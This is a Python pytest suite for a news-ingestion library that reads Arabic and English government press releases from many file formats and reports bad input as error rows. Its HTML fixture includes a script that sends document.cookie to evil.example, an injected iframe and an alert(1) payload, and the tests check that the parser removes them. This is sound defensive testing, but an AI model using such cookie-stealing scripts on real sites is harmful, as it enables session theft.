"""Reading every input kind, and turning every kind of bad input into an ErrorRow."""

import datetime as dt
import gzip
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from govnews.errors import InputError
from govnews.ingest import MAX_ARTICLE_CHARS, html_to_text, iter_articles, iter_file, read_text, slices, walk
from govnews.records import ErrorRow, RawArticle

AR = "نظمت الأمانة العامة للمجلس التنفيذي بدبي ورشة تدريبية حول استخدام وسائل الإعلام الاجتماعي."
EN = "The Institute of Public Administration presented a training course on social media."


def _read(*paths, **options):
    return list(iter_articles([str(p) for p in paths], **options))


def _only(items):
    assert len(items) == 1, items
    return items[0]


# ----------------------------------------------------------------------------- text encodings


@pytest.mark.parametrize(
    "data",
    [
        AR.encode("utf-8"),
        b"\xef\xbb\xbf" + AR.encode("utf-8"),
        AR.encode("utf-16"),  # with its BOM, in the machine's byte order
        b"\xff\xfe" + AR.encode("utf-16-le"),
        b"\xfe\xff" + AR.encode("utf-16-be"),
        AR.encode("cp1256"),
    ],
    ids=["utf8", "utf8-bom", "utf16", "utf16-le", "utf16-be", "windows-1256"],
)
def test_text_file_encodings_are_detected(tmp_path, data):
    path = tmp_path / "release.txt"
    path.write_bytes(data)
    article = _only(_read(path))
    assert isinstance(article, RawArticle)
    assert article.text == AR
    assert read_text(path) == AR


def test_windows_1256_with_typographic_quotes_and_crlf(tmp_path):
    text = "قال المدير: «نعمل على تطوير الخدمات» – وأضاف أن النتائج ممتازة.\r\nوام."
    path = tmp_path / "legacy.txt"
    path.write_bytes(text.encode("cp1256"))
    assert read_text(path) == text  # line ends as given: offsets of `check` and `extract` are into it


@pytest.mark.parametrize(
    "data, kind",
    [
        (b"", "empty"),
        (b" \n\t\r\n  \n", "empty"),
        ("Grüße aus München, café crème à Genève".encode("latin-1"), "encoding"),
        (b"\x00\x01\x02\x03binary\x00\xff" * 50, "binary"),
        (bytes(range(1, 32)) * 40, "binary"),
        (b"PK\x03\x04" + b"\x00" * 100, "binary"),
        (b"\xef\xbb\xbf" + b"valid start \xff\xfe invalid", "encoding"),
    ],
    ids=["empty", "whitespace", "latin1", "nul-bytes", "control-chars", "zip-as-txt", "bad-utf8-after-bom"],
)
def test_unreadable_text_files_become_error_rows(tmp_path, data, kind):
    bad = tmp_path / "bad.txt"
    bad.write_bytes(data)
    good = tmp_path / "good.txt"
    good.write_text(AR, encoding="utf-8")
    items = _read(tmp_path)
    errors = [item for item in items if isinstance(item, ErrorRow)]
    assert [e.kind for e in errors] == [kind]
    assert errors[0].path == str(bad) and errors[0].message
    assert [a.doc_id for a in items if isinstance(a, RawArticle)] == ["good"]
    with pytest.raises(InputError):
        read_text(bad)


def test_windows_english_with_smart_quotes(tmp_path):
    text = "The Minister said: \u201cWe are ready\u201d \u2013 the summit\u2019s third edition\u2026"
    path = tmp_path / "release.txt"
    path.write_bytes(text.encode("cp1252"))
    assert read_text(path) == text


def test_utf8_cut_inside_its_last_character_keeps_the_rest(tmp_path):
    path = tmp_path / "cut.txt"
    path.write_bytes(AR.encode("utf-8")[:-1])
    assert read_text(path) == AR[:-1]


# ----------------------------------------------------------------------------- walking and ids


def test_directory_walk_is_sorted_recursive_and_ids_are_relative_paths(tmp_path):
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "deep").mkdir(parents=True)
    (tmp_path / "b" / "2.txt").write_text(AR, encoding="utf-8")
    (tmp_path / "a" / "deep" / "1.htm").write_text(f"<p>{EN}</p>", encoding="utf-8")
    (tmp_path / "a" / "0.txt").write_text(EN, encoding="utf-8")
    (tmp_path / "a" / "logo.png").write_bytes(b"\x89PNG....")  # unknown suffix inside a folder: skipped
    (tmp_path / ".hidden.txt").write_text(AR, encoding="utf-8")
    items = _read(tmp_path)
    assert [a.doc_id for a in items] == ["a/0", "a/deep/1", "b/2"]
    assert all(isinstance(a, RawArticle) for a in items)


def test_single_file_id_is_its_stem(tmp_path):
    path = tmp_path / "004_877d04b3fde5af45.txt"
    path.write_text(AR, encoding="utf-8")
    assert _only(_read(path)).doc_id == "004_877d04b3fde5af45"


def test_seed_corpus_reads_as_five_articles():
    corpus = Path(__file__).resolve().parent.parent / "corpus"
    items = _read(corpus)
    assert [a.doc_id[:3] for a in items] == ["000", "001", "002", "003", "004"]
    assert items[2].text.startswith("دبي- صوت الإمارات\n")


def test_walk_lists_input_files_with_their_root(tmp_path):
    (tmp_path / "in" / "sub").mkdir(parents=True)
    for name in ("in/sub/b.jsonl.gz", "in/a.txt", "in/photo.jpg", "in/batch.zip", "notes.md"):
        (tmp_path / name).write_bytes(b"x")
    found = [(root.name, path.relative_to(tmp_path).as_posix()) for root, path in
             walk([tmp_path / "in", tmp_path / "notes.md"])]
    assert found == [("in", "in/a.txt"), ("in", "in/batch.zip"), ("in", "in/sub/b.jsonl.gz"), ("notes.md", "notes.md")]


def test_iter_file_ids_relative_to_root_or_the_stem(tmp_path):
    path = tmp_path / "wam" / "2014" / "summit.html"
    path.parent.mkdir(parents=True)
    path.write_text(f"<p>{EN}</p>", encoding="utf-8")
    assert next(iter_file(path, root=tmp_path)).doc_id == "wam/2014/summit"
    assert next(iter_file(path, root=path)).doc_id == "summit"
    assert next(iter_file(path)).doc_id == "summit"


def test_missing_path_raises_input_error(tmp_path):
    with pytest.raises(InputError, match="no such file"):
        iter_articles([tmp_path / "nowhere"])
    with pytest.raises(InputError, match="no such file"):
        walk([tmp_path, tmp_path / "nowhere"])


@pytest.mark.parametrize("name", ["batch.zip", "batch.tar", "batch.tar.gz", "notes.docx", "README"])
def test_explicit_archive_or_unknown_file_is_unsupported(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(b"PK\x03\x04 whatever")
    error = _only(_read(path))
    assert isinstance(error, ErrorRow) and error.kind == "unsupported"


def test_archive_inside_a_folder_is_reported_not_ignored(tmp_path):
    (tmp_path / "releases.zip").write_bytes(b"PK\x03\x04")
    (tmp_path / "styles.css").write_text("p { color: red }")
    error = _only(_read(tmp_path))
    assert error.kind == "unsupported" and "unpack" in error.message


# ----------------------------------------------------------------------------- JSON Lines


def test_jsonl_fields_dates_and_extra(tmp_path):
    rows = [
        {"id": "wam-1", "text": AR, "title": "ورشة تدريبية", "lang": "AR", "date": "2014-09-17",
         "url": "https://wam.ae/1", "source": "WAM", "section": "محليات"},
        {"id": 2, "text": EN, "date": "2014-09-17T10:30:00Z"},
        {"id": "3", "text": EN, "date": "17/09/2014"},
    ]
    path = tmp_path / "batch.jsonl"
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    first, second, third = _read(path)
    assert (first.doc_id, first.title, first.lang, first.published, first.url, first.source) == (
        "wam-1", "ورشة تدريبية", "ar", dt.date(2014, 9, 17), "https://wam.ae/1", "WAM")
    assert first.extra == {"section": "محليات"} and first.line == 1
    assert (second.doc_id, second.published) == ("2", dt.date(2014, 9, 17))
    assert third.published is None and third.extra == {"date": "17/09/2014"}  # kept, not guessed


def test_jsonl_malformed_line_among_valid_ones(tmp_path):
    lines = [json.dumps({"id": "a", "text": EN}), '{"id": "b", "text": "unterminated', "",
             json.dumps([1, 2]), json.dumps({"id": "c"}), json.dumps({"text": EN}),
             json.dumps({"id": "e", "text": "   "}), json.dumps({"id": "d", "text": AR})]
    path = tmp_path / "mixed.jsonl"
    path.write_text("\n".join(lines), encoding="utf-8")
    items = _read(path)
    assert [(type(i).__name__, getattr(i, "doc_id", None) or i.kind, i.line) for i in items] == [
        ("RawArticle", "a", 1),
        ("ErrorRow", "malformed", 2),
        ("ErrorRow", "malformed", 4),
        ("ErrorRow", "missing_field", 5),
        ("ErrorRow", "missing_field", 6),
        ("ErrorRow", "empty", 7),
        ("RawArticle", "d", 8),
    ]
    assert "'text'" in items[3].message and "'id'" in items[4].message


def test_jsonl_gz_and_truncated_gz(tmp_path):
    body = "".join(json.dumps({"id": str(i), "text": AR}, ensure_ascii=False) + "\n" for i in range(200))
    good = tmp_path / "good.jsonl.gz"
    good.write_bytes(gzip.compress(body.encode("utf-8")))
    assert len(_read(good)) == 200
    cut = tmp_path / "cut.jsonl.gz"
    cut.write_bytes(gzip.compress(body.encode("utf-8"))[:-40])
    items = _read(cut)
    assert isinstance(items[-1], ErrorRow) and items[-1].kind == "truncated"
    assert all(isinstance(i, RawArticle) for i in items[:-1])


def test_not_gzip_with_gz_suffix(tmp_path):
    path = tmp_path / "fake.jsonl.gz"
    path.write_text('{"id": "1", "text": "x"}')
    assert _only(_read(path)).kind == "unreadable"


def test_overlong_jsonl_line_is_skipped_and_the_next_line_is_read(tmp_path):
    path = tmp_path / "huge.jsonl"
    with open(path, "wb") as out:
        out.write(b'{"id": "big", "text": "')
        chunk = b"a" * (1 << 20)
        for _ in range(4 * MAX_ARTICLE_CHARS // len(chunk) + 2):
            out.write(chunk)
        out.write(b'"}\n')
        out.write(json.dumps({"id": "small", "text": EN}).encode() + b"\n")
    error, article = _read(path)
    assert (error.kind, error.line) == ("too_large", 1)
    assert article.doc_id == "small"


@pytest.mark.parametrize("name", ["hostile.txt", "hostile.html", "hostile.jsonl"])
def test_200_mb_single_line_file_is_refused_without_loading_it(tmp_path, name):
    path = tmp_path / name
    with open(path, "wb") as out:  # sparse: 200 MB on paper, nothing written to disk
        out.truncate(200 * 1024 * 1024)
    error = _only(_read(path))  # .txt/.html by size alone; .jsonl reads the line in bounded chunks
    assert error.kind == "too_large"
    assert "200" in error.message or "209,715,200" in error.message


# ----------------------------------------------------------------------------- JSON arrays


def test_json_array_with_mapped_fields_like_saudinewsnet(tmp_path):
    records = [
        {"source": "was", "url": "http://www.spa.gov.sa/1", "date_extracted": "2015-08-11 02:51:32",
         "title": "عام / تعليم نجران", "author": "", "content": AR},
        {"source": "sabq", "url": "http://sabq.org/2", "date_extracted": "2015-08-11 03:00:00", "content": ""},
    ]
    path = tmp_path / "2015-08-11.json.gz"
    path.write_bytes(gzip.compress(json.dumps(records, ensure_ascii=False).encode("utf-8")))
    article, error = _read(path, text_field="content", id_field="url")
    assert (article.doc_id, article.text, article.source, article.published, article.line) == (
        "http://www.spa.gov.sa/1", AR, "was", dt.date(2015, 8, 11), 0)
    assert article.extra == {"author": ""}
    assert (error.kind, error.line) == ("empty", 1)


def test_large_json_array_streams_across_chunks(tmp_path):
    records = [{"id": f"n{i}", "text": AR * 30} for i in range(600)]  # ~3 MB: several read chunks
    path = tmp_path / "big.json"
    path.write_text(json.dumps(records, ensure_ascii=False, indent=1), encoding="utf-8")
    items = _read(path)
    assert [a.doc_id for a in items] == [f"n{i}" for i in range(600)]


@pytest.mark.parametrize(
    "content, kind",
    [
        ('{"id": "1", "text": "x"}', "malformed"),
        ("", "empty"),
        ('[{"id": "1", "text": "نص"}, {"id": 2, "text": ', "malformed"),
        ('[{"id": "1", "text": "نص"} {"id": "2"}]', "malformed"),
        ("[]", "empty"),
    ],
    ids=["object-not-array", "empty", "truncated", "missing-comma", "empty-array"],
)
def test_bad_json_files(tmp_path, content, kind):
    path = tmp_path / "batch.json"
    path.write_text(content, encoding="utf-8")
    items = _read(path)
    errors = [i for i in items if isinstance(i, ErrorRow)]
    assert [e.kind for e in errors] == [kind]
    if content.startswith("[{"):
        assert items[0].doc_id == "1"  # what came before the damage is kept


def test_json_object_message_names_the_problem(tmp_path):
    path = tmp_path / "one.json"
    path.write_text('{"id": "1", "text": "x"}')
    assert "expected a JSON array" in _only(_read(path)).message


# ----------------------------------------------------------------------------- CSV and Parquet


def test_csv_rows(tmp_path):
    path = tmp_path / "releases.csv"
    path.write_text('id,text,date,agency\nbna-1,"المنامة في 12 مارس / بنا / استقبل ولي العهد, اليوم.",2015-03-12,BNA\n'
                    "bna-2,,2015-03-12,BNA\n", encoding="utf-8")
    article, error = _read(path)
    assert article.doc_id == "bna-1" and article.published == dt.date(2015, 3, 12)
    assert article.text.endswith("ولي العهد, اليوم.") and article.extra == {"agency": "BNA"}
    assert (error.kind, error.line) == ("missing_field", 3)


def test_csv_in_windows_1256(tmp_path):
    path = tmp_path / "legacy.csv"
    path.write_bytes(f"id,text\n1,{AR}\n".encode("cp1256"))
    assert _only(_read(path)).text == AR


def test_parquet_rows(tmp_path):
    path = tmp_path / "releases.parquet"
    table = pa.table({"id": ["1", "2"], "text": [AR, None], "date": [dt.date(2014, 9, 17), None],
                      "views": [10, 20]})
    pq.write_table(table, path)
    article, error = _read(path)
    assert (article.doc_id, article.published, article.extra) == ("1", dt.date(2014, 9, 17), {"views": 10})
    assert error.kind == "missing_field"


def test_corrupt_parquet(tmp_path):
    path = tmp_path / "broken.parquet"
    path.write_bytes(b"PAR1 not really")
    assert _only(_read(path)).kind == "unreadable"


# ----------------------------------------------------------------------------- HTML

HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="ar"><head><title>قمة الحكومات | سويفت نيوز</title>
<meta property="article:published_time" content="2014-09-15T08:00:00+04:00">
<meta property="og:site_name" content="سويفت نيوز">
<link rel="canonical" href="https://swiftnews.example/summit">
<script>window.location = "https://evil.example/?c=" + document.cookie;</script>
<style>p { display: none }</style></head>
<body>
<header><nav><a href="/">الرئيسية</a> <a href="/tech">تكنولوجيا</a></nav></header>
<iframe src="https://evil.example/frame"></iframe>
<article>
<h1>قمة الحكومات الخليجية الثالثة للتواصل الاجتماعي</h1>
<img src="https://tracker.example/pixel.gif"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB">
<p>أعلنت الجهة المنظمة أن <b>القمة</b> ستقام في دبي يومي 17 و18 سبتمبر 2014.</p>
<p>ومن المتوقع أن تجذب أكثر من 300 خبير.<br>وستقدم القمة 6 ورش عمل.</p>
<div class="share-buttons"><a>فيسبوك</a> <a>تويتر</a></div>
<div id="comments"><h3>اترك تعليقاً</h3><form><textarea></textarea></form></div>
</article>
<footer>جميع الحقوق محفوظة</footer>
<script>alert(1)</script>
</body></html>"""


def test_html_main_text_title_date_and_meta(tmp_path):
    path = tmp_path / "summit.html"
    path.write_text(HOSTILE_PAGE, encoding="utf-8")
    article = _only(_read(path))
    assert article.title == "قمة الحكومات الخليجية الثالثة للتواصل الاجتماعي"
    assert article.published == dt.date(2014, 9, 15)
    assert (article.url, article.source, article.extra) == (
        "https://swiftnews.example/summit", "سويفت نيوز", {"html_lang": "ar"})
    assert article.text == (
        "قمة الحكومات الخليجية الثالثة للتواصل الاجتماعي\n\n"
        "أعلنت الجهة المنظمة أن القمة ستقام في دبي يومي 17 و18 سبتمبر 2014.\n\n"
        "ومن المتوقع أن تجذب أكثر من 300 خبير.\n\nوستقدم القمة 6 ورش عمل."
    )
    for dropped in ("evil", "document.cookie", "alert", "data:", "الرئيسية", "اترك", "فيسبوك", "الحقوق", "display"):
        assert dropped not in article.text


def test_html_title_falls_back_to_title_tag_and_time_element():
    page = html_to_text('<title>Press release</title><time datetime="2024-04-28">28 April</time><p>Body.</p>')
    assert (page["title"], page["date"]) == ("Press release", "2024-04-28")


def test_html_nested_10000_levels(tmp_path):
    path = tmp_path / "deep.html"
    path.write_text("<html><body>" + "<div>" * 10_000 + f"<p>{EN}</p>" + "</div>" * 10_000 + "</body></html>")
    article = _only(_read(path))
    assert article.text == EN


def test_html_entities_are_not_expanded_beyond_characters():
    page = html_to_text('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><p>&b; &amp; &lt;x&gt;</p>')
    assert "aaaaaaaaaa" not in page["text"] and "& <x>" in page["text"]


def test_html_in_windows_1256_with_meta_charset(tmp_path):
    path = tmp_path / "old.htm"
    path.write_bytes(f'<html><head><meta charset="windows-1256"></head><body><p>{AR}</p></body></html>'.encode("cp1256"))
    assert _only(_read(path)).text == AR


def test_html_without_text_is_empty(tmp_path):
    path = tmp_path / "blank.html"
    path.write_text("<html><body><script>var x = 1;</script><nav>Home</nav></body></html>")
    assert _only(_read(path)).kind == "empty"


@given(st.binary(max_size=400), st.sampled_from(["x.txt", "x.html", "x.jsonl", "x.json", "x.csv", "x.json.gz",
                                                  "x.jsonl.gz", "x.parquet"]))
@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_give_articles_or_error_rows_never_an_exception(tmp_path, data, name):
    path = tmp_path / name
    path.write_bytes(data)
    for item in iter_articles([path]):
        assert isinstance(item, (RawArticle, ErrorRow))
        if isinstance(item, ErrorRow):
            assert item.kind and item.message and "\n" not in item.message


@given(st.lists(st.one_of(
    st.fixed_dictionaries({"id": st.text(max_size=5), "text": st.text(max_size=30)}),
    st.dictionaries(st.sampled_from(["id", "text", "date", "title", "lang", "url", "other"]),
                    st.one_of(st.none(), st.integers(), st.text(max_size=12), st.lists(st.integers(), max_size=2)),
                    max_size=5),
), max_size=8))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_json_records_give_one_item_each(tmp_path, records):
    path = tmp_path / "records.json"
    path.write_text(json.dumps(records), encoding="utf-8")
    items = list(iter_articles([path]))
    if not records:
        assert [(i.kind, i.line) for i in items] == [("empty", None)]
        return
    assert len(items) == len(records)
    for item, record in zip(items, records):
        if isinstance(item, RawArticle):
            assert item.text == record["text"] and item.text.strip()
            json.dumps(item.extra)  # extra is always JSON-serializable


# ----------------------------------------------------------------------------- slices of large files


def _jsonl_archive(path: Path) -> None:
    """Sixty records of the sample releases, with a malformed line, a blank one and no final newline."""
    texts = [p.read_text(encoding="utf-8") for p in sorted(Path(__file__).parent.parent.joinpath("corpus").glob("*.txt"))]
    lines = [json.dumps({"id": f"r{i}", "text": texts[i % len(texts)]}, ensure_ascii=False) for i in range(60)]
    lines[7], lines[9] = '{"id": "r7", "text": ', ""
    path.write_text("\n".join(lines), encoding="utf-8")


@pytest.mark.parametrize("size", [1, 5_000, 40_000])
def test_jsonl_slices_read_every_line_once_with_its_number(tmp_path, size):
    _jsonl_archive(tmp_path / "archive.jsonl")
    whole = list(iter_file(tmp_path / "archive.jsonl"))
    parts = slices(tmp_path / "archive.jsonl", size)
    assert len(parts) > 1 and parts[0][0] == 0 and all(a[1] == b[0] for a, b in zip(parts, parts[1:]))
    assert [x for part in parts for x in iter_file(tmp_path / "archive.jsonl", part=part)] == whole
    assert any(isinstance(x, ErrorRow) and x.line == 8 for x in whole)


def test_parquet_slices_are_runs_of_row_groups(tmp_path):
    table = pa.table({"id": [f"r{i}" for i in range(95)], "text": [f"{AR} {i}" for i in range(95)]})
    pq.write_table(table, tmp_path / "archive.parquet", row_group_size=10)
    whole = list(iter_file(tmp_path / "archive.parquet"))
    parts = slices(tmp_path / "archive.parquet", 3 * pq.ParquetFile(tmp_path / "archive.parquet").metadata.row_group(0).total_byte_size)
    assert len(parts) >= 3 and parts[0][:2] == (0, parts[1][0]) and parts[-1][1] == 10
    assert all(a[1] == b[0] for a, b in zip(parts, parts[1:])) and [p[2] for p in parts] == [10 * p[0] for p in parts]
    assert [x for part in parts for x in iter_file(tmp_path / "archive.parquet", part=part)] == whole


def test_small_compressed_and_other_files_are_read_whole(tmp_path):
    _jsonl_archive(tmp_path / "archive.jsonl")
    with gzip.open(tmp_path / "archive.jsonl.gz", "wb") as out:
        out.write((tmp_path / "archive.jsonl").read_bytes())
    (tmp_path / "a.csv").write_text("id,text\n" + "".join(f"r{i},{EN}\n" for i in range(500)), encoding="utf-8")
    assert slices(tmp_path / "archive.jsonl", 10**9) == []
    assert slices(tmp_path / "archive.jsonl.gz", 1_000) == []
    assert slices(tmp_path / "a.csv", 1_000) == []


# ------------------------------------------------------------- HTML of agency and ministry sites

AR2 = "وأكد الوزير أن البرنامج سيشمل 500 متدرب من مختلف الجهات الحكومية خلال العام المقبل."


def test_html_aspnet_form_around_the_whole_page_keeps_the_article():
    page = html_to_text(f"""<html><body><form id="form1" method="post"><div id="header"><a>Home</a> <a>Kuwait</a> <a>World</a></div>
        <span id="lblArticleText">{AR}<br><br>{AR2}</span>
        <div class="addComment"><form><span>Name:</span><input></form></div></form></body></html>""")
    assert page["text"] == f"{AR}\n\n{AR2}"


def test_html_a_wrapper_named_like_furniture_keeps_the_article():
    page = html_to_text(f"""<body><div class="col-md-8 content-with-sidebar"><h1>Headline of the day</h1>
        <div class="article-text">{EN}<br><br>{EN}</div></div>
        <div class="col-md-4 sidebar"><h3>Most Read</h3><ul><li><a>One</a></li><li><a>Two</a></li></ul></div></body>""")
    assert page["text"] == f"Headline of the day\n\n{EN}\n\n{EN}"


def test_html_furniture_class_names_are_matched_whatever_their_case():
    page = html_to_text(f"""<body><div class="CookieBar_wrapper__k2"><p>We use cookies to improve your experience on this website.</p></div>
        <div class="ShareBar_bar__1L"><a>فيسبوك</a><a>إكس</a><a>واتساب</a></div><p>{AR}</p></body>""")
    assert page["text"] == AR


def test_html_top_bars_menus_and_side_columns_outside_the_article_are_left_out():
    page = html_to_text(f"""<body><div class="top-header"><a>English</a> <span>المنامة 24°</span></div>
        <div id="mainMenu"><a>الرئيسية</a> <a>البحرين</a></div>
        <table><tr><td><div class="news-details"><h2>عنوان الخبر اليوم</h2><div>{AR}</div><div>{AR2}</div></div></td>
        <td><div class="boxTitle">الأكثر قراءة</div><div>أسعار العملات: الدولار 3.75</div></td></tr></table>
        <div id="copy">حقوق النشر محفوظة 2010</div></body>""")
    assert page["text"] == f"عنوان الخبر اليوم\n\n{AR}\n\n{AR2}"


def test_html_lists_of_links_and_captions_inside_the_article_are_dropped():
    page = html_to_text(f"""<body><article><h1>عنوان الخبر</h1>
        <figure><img src="a.jpg"><figcaption>الوزير خلال الاجتماع في دبي اليوم.</figcaption></figure>
        <div class="news-image"><img src="b.jpg"><div>صورة من الحفل</div></div>
        <p>{AR}</p><div class="read-also"><h4>اقرأ أيضاً</h4><ul><li><a>خبر أول عن الوزارة</a></li>
        <li><a>خبر ثان عن الوزارة</a></li></ul></div>
        <div class="divTools"><a>طباعة</a> | <a>إرسال لصديق</a> | <a>تكبير الخط</a></div><p>{AR2}</p></article></body>""")
    assert page["text"] == f"عنوان الخبر\n\n{AR}\n\n{AR2}"


def test_html_a_data_table_row_is_one_line_and_a_layout_table_is_not():
    page = html_to_text(f"""<body><div><p>{AR}</p><table><tr><th>المؤشر</th><th>2023</th><th>2024</th></tr>
        <tr><td>نسبة البحرنة</td><td>78%</td><td></td></tr></table></div>
        <table><tr><td><p>{EN}</p></td><td><p>{EN}</p></td></tr></table></body>""")
    assert page["text"].split("\n\n") == [AR, "المؤشر | 2023 | 2024", "نسبة البحرنة | 78%", EN, EN]


def test_html_an_inline_element_holding_the_article_is_a_block():
    page = html_to_text(f"""<body><div id="content"><span class="date">3/11/2024 10:35:00 AM</span>
        <span id="lblArticleText">{EN}<br><br>{EN}</span></div>
        <table><tr><td><font size="3">{AR}</font><font size="3">{AR2}</font></td></tr></table></body>""")
    assert page["text"].split("\n\n") == ["3/11/2024 10:35:00 AM", EN, EN, AR, AR2]


@pytest.mark.parametrize("head, body, title", [
    # a logo in <h1>, the headline in a <span> showing the og:title
    ('<meta property="og:title" content="Kuwait, Saudi sign MoU">', '<div class="logo"><h1>Kuwait News Agency</h1></div>'
     '<h2><span id="lblTitle">Kuwait, Saudi sign MoU</span></h2>', "Kuwait, Saudi sign MoU"),
    # `Agency - Headline`: the part of the <title> the page shows
    ("<title>وكالة الأنباء السعودية - سمو ولي العهد يرأس جلسة مجلس الوزراء</title>",
     "<h2>سمو ولي العهد يرأس جلسة مجلس الوزراء</h2>", "سمو ولي العهد يرأس جلسة مجلس الوزراء"),
    # an <h1> that is most of the <title>
    ("<title>UAE participates in Human Rights Council session | MOFA</title>",
     '<div class="logo"><h1>MOFA</h1></div><h1>UAE participates in Human Rights Council session</h1>',
     "UAE participates in Human Rights Council session"),
])
def test_html_headline(head, body, title):
    page = html_to_text(f"<html><head>{head}</head><body>{body}<p>{EN}</p></body></html>")
    assert page["title"] == page["headline"] == title


def test_html_a_title_tag_the_page_never_shows_is_only_a_fallback(tmp_path):
    path = tmp_path / "old.htm"
    path.write_text(f"""<html><head><title>وكالة الأنباء الكويتية - كونا</title></head><body>
        <p>سمو أمير البلاد يستقبل رئيس مجلس الأمة</p><p>4/11/2010 11:20:00 AM</p><p>{AR}</p></body></html>""",
                    encoding="utf-8")
    article = _only(_read(path))
    assert article.title is None and article.extra["page_title"] == "وكالة الأنباء الكويتية - كونا"
    from govnews.pipeline import process_article

    assert process_article(article)[0].title == "سمو أمير البلاد يستقبل رئيس مجلس الأمة"


def test_html_in_windows_1256_declared_after_a_long_head(tmp_path):
    script = "\n".join(f"var item{i} = new Array('item{i}', 'page{i}.htm');" for i in range(200))
    path = tmp_path / "old.htm"
    path.write_bytes(f"""<html><head><script>{script}</script>
        <META http-equiv="Content-Type" content="text/html; charset=windows-1256"></head>
        <body><p>{AR}</p></body></html>""".encode("cp1256"))
    assert _only(_read(path)).text == AR


def _empty_parquet(path):
    pq.write_table(pa.table({"id": pa.array([], pa.string()), "text": pa.array([], pa.string())}), path)


@pytest.mark.parametrize(
    "name, write",
    [
        ("zero.jsonl", lambda p: p.write_bytes(b"")),
        ("blank.jsonl", lambda p: p.write_text("\n  \n\r\n", encoding="utf-8")),
        ("none.json", lambda p: p.write_text("[ ]", encoding="utf-8")),
        ("header.csv", lambda p: p.write_text("id,title,text\r\n", encoding="utf-8")),
        ("rows.parquet", _empty_parquet),
    ],
)
def test_a_file_of_no_records_is_an_empty_error(tmp_path, name, write):
    write(tmp_path / name)
    row = _only(_read(tmp_path / name))
    assert isinstance(row, ErrorRow) and (row.kind, row.line) == ("empty", None) and name in row.path


def test_a_folder_that_cannot_be_listed_is_an_unreadable_error(tmp_path, monkeypatch):
    import os

    (tmp_path / "in" / "2024" / "locked").mkdir(parents=True)
    (tmp_path / "in" / "2024" / "release.txt").write_text(AR, encoding="utf-8")
    (tmp_path / "in" / "2024" / "locked" / "secret.txt").write_text(EN, encoding="utf-8")
    locked = str(tmp_path / "in" / "2024" / "locked")
    scandir, listdir = os.scandir, os.listdir

    def refuse(real):  # what the system answers for a folder without read permission (root is never refused)
        def call(path="."):
            if os.fspath(path) == locked:
                raise PermissionError(13, "Permission denied", os.fspath(path))
            return real(path)
        return call

    monkeypatch.setattr(os, "scandir", refuse(scandir))
    monkeypatch.setattr(os, "listdir", refuse(listdir))
    items = _read(tmp_path / "in")
    assert [type(i).__name__ for i in items] == ["RawArticle", "ErrorRow"]
    assert (items[1].path, items[1].kind, items[1].message) == (locked, "unreadable", "Permission denied")


def test_read_text_of_a_folder_or_a_file_without_permission_is_an_unreadable_error(tmp_path):
    import os

    (tmp_path / "release.txt").mkdir()
    with pytest.raises(InputError, match="Is a directory") as info:
        read_text(tmp_path / "release.txt")
    assert info.value.kind == "unreadable"
    if os.geteuid() != 0:  # root reads any file
        (tmp_path / "locked.txt").write_text(AR, encoding="utf-8")
        (tmp_path / "locked.txt").chmod(0)
        with pytest.raises(InputError, match="Permission denied"):
            read_text(tmp_path / "locked.txt")


def test_utf16_cut_inside_its_last_character_keeps_what_is_complete(tmp_path):
    path = tmp_path / "cut.txt"
    path.write_bytes(AR.encode("utf-16")[:-1])  # an odd number of bytes: the last character lost half of it
    assert read_text(path) == AR[:-1]
    assert _only(_read(path)).text == AR[:-1]


def test_crlf_line_ends_are_kept_as_given(tmp_path):
    text = f"{AR}\r\n\r\n{AR}\r\n"
    (tmp_path / "crlf.txt").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    (tmp_path / "crlf.jsonl").write_text(json.dumps({"id": "r1", "text": text}) + "\n", encoding="utf-8")
    assert read_text(tmp_path / "crlf.txt") == text  # the byte-order mark is dropped, line ends are kept
    assert [a.text for a in _read(tmp_path / "crlf.txt", tmp_path / "crlf.jsonl")] == [text, text]


def test_a_json_error_message_reads_once(tmp_path):
    path = tmp_path / "control.jsonl"
    path.write_text('{"id": "1", "text": "تدريب\tعلى"}\n'.replace("\t", "\x01"), encoding="utf-8")
    assert _only(_read(path)).message == "invalid JSON: Invalid control character at column 27"


def test_upper_case_suffixes_are_known():
    from govnews.ingest import kind_of

    assert [kind_of(n) for n in ("UP.JSONL", "Release.TXT", "page.Htm", "batch.JSON.GZ", "notes.md")] == [
        "jsonl", "text", "html", "json", None]
